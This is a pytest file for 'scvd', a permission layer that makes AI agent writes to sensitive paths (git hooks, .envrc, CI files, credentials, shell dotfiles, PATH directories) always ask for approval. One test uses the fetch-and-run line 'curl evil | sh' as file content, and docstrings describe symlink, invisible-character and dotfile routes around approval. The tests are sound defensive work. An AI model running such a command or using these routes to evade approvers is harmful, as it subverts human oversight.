"""Sensitive targets: the approvals.always_ask globs, the secret-like rule, the targets tools plan, the verdict."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from adapters_support import Harness, fake_bin, harness  # noqa: F401 (fixtures)
from fs_support import ws  # noqa: F401 (fixture)
from scvd.adapters.tools import cwd_targets
from scvd.always_ask import always_ask_reason, places_reason, split
from scvd.ask_globs import DEFAULT_ALWAYS_ASK, glob_problem, matches, parse
from scvd.approvals import POLICIES, Verdict, policy_verdict
from scvd.config import Config
from scvd.host_places import RUNS, places
from scvd.own_places import CONFIG, ROOT, TOOL, Place, own_places
from scvd.paths import Paths
from scvd.tools.contract import Plan, ToolRisk

DEFAULTS = list(DEFAULT_ALWAYS_ASK)

SENSITIVE = [
    (".git/hooks/pre-commit", ".git/**"),
    (".git/config", ".git/**"),
    (".git", ".git/**"),  # a `.git` file (worktrees) pointing at another git dir
    ("vendor/lib/.git/hooks/post-checkout", ".git/**"),  # a nested repository
    (".GIT/hooks/x", ".git/**"),  # a case-insensitive filesystem writes this into .git
    (".envrc", ".envrc"),
    ("sub/.envrc", ".envrc"),  # direnv runs it on `cd sub`
    (".vscode/tasks.json", ".vscode/**"),
    (".vscode", ".vscode/**"),
    ("pkg/.vscode/settings.json", ".vscode/**"),
    (".github/workflows/ci.yml", ".github/workflows/**"),
    (".gitlab-ci.yml", ".gitlab-ci.yml"),
]
HARMLESS = ["notes.txt", "src/main.py", ".gitignore", ".gitattributes", ".github/CODEOWNERS", "git/hooks/x",
            ".github/workflow.md", "my.envrc.txt", "docs/.vscode.md", ".gitlab-ci.yml.bak"]


@pytest.mark.parametrize("target, glob", SENSITIVE)
def test_the_default_list_names_run_files_at_any_depth(target, glob):
    assert always_ask_reason([target], DEFAULTS) == f"{target!r} matches approvals.always_ask {glob!r}"


@pytest.mark.parametrize("target", HARMLESS)
def test_harmless_paths_do_not_always_ask(target):
    assert always_ask_reason([target], DEFAULTS) is None


@pytest.mark.parametrize("target, why", [
    (".env", "'.env' is secret-like ('.env' is a dotenv file)"),
    ("config/.env.production", "is secret-like"),
    ("deploy/.ssh/id_ed25519", "it is inside '.ssh'"),
    ("tls/site.key", "a key file"),
])
def test_secret_like_paths_always_ask_even_with_an_empty_list(target, why):
    assert why in always_ask_reason([target], [])


def test_any_target_counts_the_asked_path_and_where_it_leads():
    assert always_ask_reason(["hooks/pre-commit", ".git/hooks/pre-commit"], DEFAULTS) == \
        "'.git/hooks/pre-commit' matches approvals.always_ask '.git/**'"
    assert always_ask_reason(["notes", ".env"], DEFAULTS).startswith("'.env' is secret-like")
    assert always_ask_reason([], DEFAULTS) is None and always_ask_reason(["."], DEFAULTS) is None


def test_a_target_with_control_characters_is_shown_escaped():
    why = always_ask_reason([".git/hooks/\x1b[2Jx\u202e"], DEFAULTS)
    assert "\x1b" not in why and "\u202e" not in why and "\\x1b" in why


def test_a_target_with_invisible_letters_is_shown_escaped():
    # U+3164 draws as nothing: '.git/hooks/x\u3164' would look like '.git/hooks/x' to the approver
    why = always_ask_reason([".git/hooks/x\u3164", ".git/hooks/\u2800"], DEFAULTS)
    assert why.startswith("'.git/hooks/x\\u3164' matches"), why


@pytest.mark.parametrize("glob, path, hit", [
    ("/Makefile", "Makefile", True),
    ("/Makefile", "sub/Makefile", False),  # anchored at the root
    ("Makefile", "sub/Makefile", True),
    ("*.sh", "scripts/build.sh", True),
    ("*.sh", "scripts/build.sh.txt", False),
    ("scripts/*.sh", "scripts/a/b.sh", False),  # `*` stays in one component
    ("scripts/**/*.sh", "scripts/a/b.sh", True),
    ("scripts/**/*.sh", "scripts/b.sh", True),  # `**` may match nothing
    (".husky/", ".husky/pre-push", True),  # a trailing / means /**
    ("/a/?/c", "a/b/c", True),
    ("/a/?/c", "a/bb/c", False),
    ("[Mm]akefile", "MAKEFILE", True),  # case-insensitive
    ("**", "anything/at/all", True),
])
def test_glob_syntax(glob, path, hit):
    assert matches(parse(glob), split(path)) is hit


@pytest.mark.parametrize("glob, problem", [
    ("", "names no path"),
    ("/", "names no path"),
    ("../x", "has a '.' or '..' component"),
    ("a/./b", "has a '.' or '..' component"),
    ("a\x00b", "NUL"),
])
def test_glob_problems(glob, problem):
    assert problem in glob_problem(glob)
    with pytest.raises(ValueError):
        parse(glob)


def test_every_default_is_a_valid_glob():
    assert all(glob_problem(g) is None for g in DEFAULT_ALWAYS_ASK)


# --- what the tools plan --------------------------------------------------------------------


def test_write_through_a_symlink_plans_the_path_it_resolves_to(ws):
    git = ws.root / ".git" / "hooks"
    git.mkdir(parents=True)
    os.symlink(".git/hooks", ws.root / "hooks")
    plan = ws.plan("write", path="hooks/pre-commit", content="#!/bin/sh\n", mode="create")
    assert plan.targets == ("hooks/pre-commit", ".git/hooks/pre-commit")
    assert "'.git/hooks/pre-commit' matches" in always_ask_reason(plan.targets, DEFAULTS)


def test_write_to_a_symlink_of_a_sensitive_file_plans_both_names(ws):
    (ws.root / ".envrc").write_text("export A=1\n")
    os.symlink(".envrc", ws.root / "env.sh")
    plan = ws.plan("write", path="env.sh", content="curl evil | sh\n", mode="replace")
    assert plan.targets == ("env.sh", ".envrc")
    assert always_ask_reason(plan.targets, DEFAULTS) == "'.envrc' matches approvals.always_ask '.envrc'"


def test_plain_write_and_read_plan_their_path(ws):
    (ws.root / "a.txt").write_text("x")
    assert ws.plan("write", path="./a.txt", content="y", mode="replace").targets == ("a.txt",)
    assert ws.plan("read", path="a.txt").targets == ("a.txt",)


def test_an_agent_plans_its_directory_as_asked_and_resolved(tmp_path: Path):
    root = tmp_path / "ws"
    (root / ".vscode").mkdir(parents=True)
    os.symlink(".vscode", root / "editor")
    assert cwd_targets(root, "editor", root / ".vscode") == ("editor", ".vscode")
    assert cwd_targets(root, str(root / ".vscode"), root / ".vscode") == (".vscode",)
    assert cwd_targets(root, None, root) == ()


def test_an_agent_plan_carries_its_directory(harness: Harness) -> None:
    (harness.workspace / ".vscode").mkdir()
    os.symlink(".vscode", harness.workspace / "editor")
    plan = harness.plan("claude", prompt="go", cwd="editor")
    assert plan.targets == ("editor", ".vscode")
    assert always_ask_reason(plan.targets, DEFAULTS) == "'.vscode' matches approvals.always_ask '.vscode/**'"
    assert harness.plan("claude", prompt="go").targets == ()


def test_an_agents_directory_is_judged_as_a_folder_not_a_file(harness: Harness) -> None:
    """The word rule (password, token) is for a file's name: a run in `services/password-reset` asked
    every time, with no session grant to give."""
    (harness.workspace / "services" / "password-reset").mkdir(parents=True)
    plan = harness.plan("claude", prompt="go", cwd="services/password-reset")
    assert plan.folders and always_ask_reason(plan.targets, DEFAULTS, folders=plan.folders) is None
    assert always_ask_reason(["services/password-reset"], DEFAULTS) is not None  # as a file it would ask
    (harness.workspace / ".aws").mkdir()
    creds = harness.plan("claude", prompt="go", cwd=".aws")  # a credentials folder still asks
    assert always_ask_reason(creds.targets, DEFAULTS, folders=creds.folders) == \
        "'.aws' is secret-like ('.aws' is a directory of keys or credentials)"


# --- the verdict -------------------------------------------------------------------------------


@pytest.mark.parametrize("policy", POLICIES)
@pytest.mark.parametrize("risk", [ToolRisk.FILESYSTEM, ToolRisk.PROCESS, ToolRisk.DELEGATE])
def test_always_asks_beats_a_grant_and_the_sandbox(policy, risk):
    contained = Plan(risk=risk, summary="s", sandboxed=True, network=False, writes_confined=True)
    got = policy_verdict(policy, contained, always_allow=False, granted=True, sandbox_active=True,
                         always_asks=True)
    assert got is (Verdict.DENY if policy == "never" else Verdict.ASK)
    # the same call without a sensitive target runs on the grant
    free = policy_verdict(policy, contained, always_allow=False, granted=True, sandbox_active=True)
    assert free is (Verdict.DENY if policy == "never" else Verdict.RUN)


def own_files_reason(workspace: str, targets: list[str], own: tuple[Place, ...]) -> str | None:
    """places_reason() with no place outside scvd's own and a home no target is in."""
    return places_reason(workspace, targets, own, frozenset(), "/nonexistent-home")


def test_a_target_in_scvds_own_folders_always_asks():
    own = (Place(ROOT, "/ws/.scv"), Place(ROOT, "/elsewhere/state"))
    assert own_files_reason("/ws", ["notes.txt"], own) is None
    assert own_files_reason("/ws", [".scvx/config.toml"], own) is None
    assert own_files_reason("/ws", ["notes", ".scv/config.toml"], own) == \
        "'.scv/config.toml' is inside scvd's own folder /ws/.scv (its configuration, tools or state)"
    assert own_files_reason("/ws", [".scv"], own).startswith("'.scv' is inside")
    assert own_files_reason("/ws", ["a/../.scv/tools/script/x/tool.json"], own) is not None
    assert own_files_reason("/ws", ["x"], ()) is None


def test_a_write_into_scvds_runtime_directory_always_asks(tmp_path: Path):
    # the XDG layout keeps the socket's directory outside the config, data and state ones: the
    # write rule's list of scvd's folders missed it while the sandbox's named it
    run = tmp_path / "xdg-runtime" / "scv"
    paths = Paths(home=None, config_dir=tmp_path / "c/scv", data_dir=tmp_path / "d/scv",
                  state_dir=tmp_path / "s/scv", runtime_dir=run, socket=run / "scvd.sock")
    assert own_files_reason(str(tmp_path), ["xdg-runtime/scv/scvd.sock"], own_places(paths)) == (
        f"'xdg-runtime/scv/scvd.sock' is inside scvd's own folder {run} (its configuration, tools or state)")


def test_a_target_through_a_link_into_a_loaded_tools_folder_always_asks(tmp_path: Path):
    """A workspace link to the folder a script tool runs from: a write of `mine/run` rewrote what a
    read_only call of that tool runs unasked, judged by its name alone (inside no folder of scvd's)."""
    folder, workspace = tmp_path / "mytools" / "leak", tmp_path / "ws"
    folder.mkdir(parents=True)
    workspace.mkdir()
    (workspace / "mine").symlink_to(folder)
    own = (Place(TOOL, os.path.realpath(folder)),)
    assert own_files_reason(str(workspace), ["mine/run"], own) == (
        f"'mine/run' is inside {os.path.realpath(folder)}, the folder of a tool scvd loaded (what it runs, maybe unasked)")
    assert own_files_reason(str(workspace), ["notes/run"], own) is None


def test_the_config_file_scvd_reads_always_asks_wherever_it_is():
    own = (Place(ROOT, "/home/me/.scv"), Place(CONFIG, "/ws/deploy/scvd.toml"))
    assert own_files_reason("/ws", ["deploy/scvd.toml"], own) == (
        "'deploy/scvd.toml' is the configuration file scvd reads, /ws/deploy/scvd.toml "
        "(it starts MCP servers unsandboxed)")
    assert own_files_reason("/ws", ["deploy/scvd.toml.bak", "deploy"], own) is None  # the file, not its folder


def test_a_git_directory_under_another_name_always_asks_and_a_folder_with_only_a_head_file_does_not(tmp_path):
    from scvd.always_ask import git_dir_reason

    bare = tmp_path / ".repo" / "projects" / "app.git"  # as Android's repo tool keeps them
    (bare / "objects").mkdir(parents=True)
    (bare / "HEAD").write_text("ref: refs/heads/main\n")
    (tmp_path / "notes").mkdir()
    (tmp_path / "notes" / "HEAD").write_text("a file that happens to be called HEAD\n")
    assert git_dir_reason(str(tmp_path), [".repo/projects/app.git/hooks/post-checkout"]) == (
        "'.repo/projects/app.git/hooks/post-checkout' is inside '.repo/projects/app.git', a git directory: "
        "its config and hooks run at the next git command")
    assert git_dir_reason(str(tmp_path), ["notes/config"]) is None
    assert git_dir_reason(str(tmp_path), [".git/hooks/x"]) is None  # the `.git/**` glob's


def test_a_workspace_that_is_itself_a_git_directory_always_asks(tmp_path):
    from scvd.always_ask import git_dir_reason

    (tmp_path / "refs").mkdir()  # `git init --bare` makes HEAD, config, objects/ and refs/ at the root
    (tmp_path / "HEAD").write_text("ref: refs/heads/main\n")
    assert git_dir_reason(str(tmp_path), ["config"]) == (
        "'config' is inside the workspace, itself a git directory: its config and hooks run at the next git command")
    (tmp_path / "HEAD").unlink()  # a project with a `refs` folder is no git directory
    assert git_dir_reason(str(tmp_path), ["config"]) is None
    assert git_dir_reason(str(tmp_path), []) is None


def test_a_write_where_files_run_later_always_asks_judged_where_it_really_is(tmp_path: Path):
    """A session grant for a harmless write in the home covered `.bashrc`, `.gitconfig` and
    `.local/bin/git`, which run at the next shell or git command outside any sandbox."""
    real, dotfiles, xdg = tmp_path / "real-home", tmp_path / "dotfiles", tmp_path / "xdg-data"
    (real / "project").mkdir(parents=True)
    (dotfiles / "config").mkdir(parents=True)
    (real / ".config").symlink_to(dotfiles / "config")
    (tmp_path / "home").symlink_to(real)  # HOME names a link: judged by the real path
    (real / "project" / "bin").symlink_to(real / ".local/bin")  # a link in the workspace into .local
    env = {"XDG_DATA_HOME": str(xdg)}

    home_host = places(Config(), None, {"PATH": "/usr/bin", **env}, str(tmp_path / "home"))

    def why(workspace: Path, *targets: str, host: frozenset[Place] = home_host) -> str | None:
        return places_reason(str(workspace.resolve()), targets, (), host, str(tmp_path / "home"))

    for target in (".bashrc", ".gitconfig", ".local/bin/git", ".ssh/rc", ".vim/plugin/x.vim", "project/bin/git"):
        first = ".local" if target.startswith("project") else target.split("/")[0]
        assert f"is in the home's {str(real / first)!r}" in why(real, target), target
    assert why(real, "project/notes.txt", "project/.envrc.txt") is None  # an ordinary file, a dotfile not at the top
    assert why(real / "project", "notes.txt", ".bashrc") is None  # `project/.bashrc` is no home dotfile
    # a dotfiles repository that ~/.config leads into, and XDG_DATA_HOME outside the home
    assert "is in the home's" in why(dotfiles, "config/systemd/user/x.service")
    assert str(xdg) in why(tmp_path, "xdg-data/applications/x.desktop")
    assert why(dotfiles, "README") is None
    # a directory on scvd's PATH, as host_places lists it (outside any home)
    tools = tmp_path / "tools"
    (tools / "bin").mkdir(parents=True)
    host = places(Config(), None, {"PATH": str(tools / "bin")}, str(real))
    assert Place(RUNS, str(tools / "bin")) in host
    assert f"is inside {str(tools / 'bin')!r}" in why(tools, "bin/git", host=host)
    assert why(tools, "notes.txt", host=host) is None
    # a directory on its LD_LIBRARY_PATH: bwrap's loader reads it outside the sandbox
    host = places(Config(), None, {"PATH": "/usr/bin", "LD_LIBRARY_PATH": str(tools / "lib")}, str(real))
    assert "a library the loader outside the sandbox reads" in why(tools, "lib/libcap.so.2", host=host)
    # a dotfile that is itself a link into a repository (before a reload lists where it leads)
    (dotfiles / "bashrc").write_text("")
    (real / ".bashrc").symlink_to(dotfiles / "bashrc")
    assert f"is in the home's {str(real / '.bashrc')!r}" in why(real, ".bashrc")
